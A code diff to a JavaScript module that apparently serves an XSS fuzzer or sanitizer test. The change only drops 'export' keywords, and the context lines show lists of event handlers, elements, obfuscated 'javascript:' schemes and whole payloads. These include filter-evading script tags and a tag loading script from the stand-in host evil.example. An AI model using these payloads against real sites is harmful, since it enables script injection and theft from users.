@@ -1,5 +1,5 @@
-export const call = 'alert(1)';
-export const handlers = [
+const call = 'alert(1)';
+const handlers = [
   'onerror',
   'onload',
   'onclick',
@@ -11,7 +11,7 @@ export const handlers = [
   'onbegin',
   'onscroll',
 ];
-export const elements = [
+const elements = [
   'img',
   'svg',
   'body',
@@ -23,7 +23,7 @@ export const elements = [
   'math',
   'object',
 ];
-export const schemes = [
+const schemes = [
   'javascript:',
   'JaVaScRiPt:',
   ' javascript:',
@@ -44,7 +44,7 @@ export const schemes = [
   'feed:javascript:',
 ];
 
-export const whole = [
+const whole = [
   `<script>${call}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `<scr<script>ipt>${call}</scr</script>ipt>`,
